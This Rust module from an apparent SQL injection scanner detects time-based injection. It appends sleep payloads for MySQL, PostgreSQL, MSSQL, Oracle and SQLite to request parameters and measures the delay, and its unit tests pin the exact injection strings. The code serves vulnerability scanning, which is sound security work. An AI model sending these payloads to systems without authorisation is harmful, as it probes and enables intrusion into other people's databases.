//! Time-based detection: inject a sleep for the fingerprinted backend and
//! compare response times against the baseline.

use crate::core::context::ScanContext;
use crate::core::result::Vulnerability;
use crate::sqli::dbms::DBMS;
use crate::sqli::InjectionStrategy;
use async_trait::async_trait;

const DELAY_SECONDS: i64 = 3;

/// Delayed means at least this much slower than baseline.
const DELAY_MARGIN_MS: i64 = 1500;

pub struct TimeBased;

#[async_trait]
impl InjectionStrategy for TimeBased {
    fn name(&self) -> &'static str {
        "Time-based"
    }

    async fn detect(&self, ctx: &ScanContext<'_>, param_index: usize) -> Option<Vulnerability> {
        let param = &ctx.target.parameters()[param_index];

        let payload = build_time_payload(ctx.dbms, &param.value);
        let spec = ctx.target.to_injected_request(param_index, &payload);
        let resp = ctx.transport.send(&spec).await;

        let base_ms = ctx.baseline.elapsed_ms as i64;
        let delayed_ms = resp.elapsed_ms as i64;

        if is_significantly_delayed(base_ms, delayed_ms) {
            let evidence = format!(
                "Time-based SQL injection detected.\n\
                 Parameter       : {}\n\
                 Payload         : {}\n\
                 DBMS            : {}\n\
                 Baseline time   : {} ms\n\
                 Delayed time    : {} ms\n\
                 Delay margin    : {} ms\n\
                 Reason          : Response time after injection is significantly higher than baseline.",
                param.name, payload, ctx.dbms, base_ms, delayed_ms, DELAY_MARGIN_MS
            );

            return Some(Vulnerability {
                parameter: param.clone(),
                parameter_index: param_index,
                strategy: self.name().to_string(),
                payload,
                evidence,
            });
        }

        None
    }
}

/// Sleep payload for the detected backend, falling back to MySQL style when
/// the fingerprint came back Unknown.
fn build_time_payload(dbms: DBMS, original_value: &str) -> String {
    let suffix = match dbms {
        DBMS::MySQL | DBMS::Unknown => format!("' OR SLEEP({DELAY_SECONDS})-- "),
        // Closes the string and the statement, then sleeps.
        DBMS::PostgreSQL => format!("'; SELECT pg_sleep({DELAY_SECONDS});--"),
        DBMS::MSSQL => format!("'; WAITFOR DELAY '0:0:{DELAY_SECONDS}';--"),
        DBMS::Oracle => format!("' OR DBMS_LOCK.SLEEP({DELAY_SECONDS}) IS NULL --"),
        // SQLite has no sleep(); a large randomblob() may stall or error.
        DBMS::SQLite => "' OR randomblob(1000000000) IS NULL --".to_string(),
    };

    format!("{original_value}{suffix}")
}

fn is_significantly_delayed(baseline_ms: i64, test_ms: i64) -> bool {
    if baseline_ms <= 0 {
        // Unusable baseline: require most of the full sleep instead.
        return test_ms >= DELAY_SECONDS * 1000 - 500;
    }
    test_ms - baseline_ms >= DELAY_MARGIN_MS
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_delay_margin_is_boundary_inclusive() {
        assert!(!is_significantly_delayed(100, 1599));
        assert!(is_significantly_delayed(100, 1600));
        assert!(!is_significantly_delayed(500, 1999));
        assert!(is_significantly_delayed(500, 2000));
    }

    #[test]
    fn test_unusable_baseline_needs_most_of_the_sleep() {
        assert!(!is_significantly_delayed(0, 2499));
        assert!(is_significantly_delayed(0, 2500));
        assert!(is_significantly_delayed(-1, 3000));
    }

    #[test]
    fn test_payload_follows_detected_backend() {
        assert_eq!(build_time_payload(DBMS::MySQL, "1"), "1' OR SLEEP(3)-- ");
        assert_eq!(
            build_time_payload(DBMS::PostgreSQL, "1"),
            "1'; SELECT pg_sleep(3);--"
        );
        assert_eq!(
            build_time_payload(DBMS::MSSQL, "1"),
            "1'; WAITFOR DELAY '0:0:3';--"
        );
        // Unknown falls back to the MySQL shape.
        assert_eq!(build_time_payload(DBMS::Unknown, "1"), "1' OR SLEEP(3)-- ");
    }
}
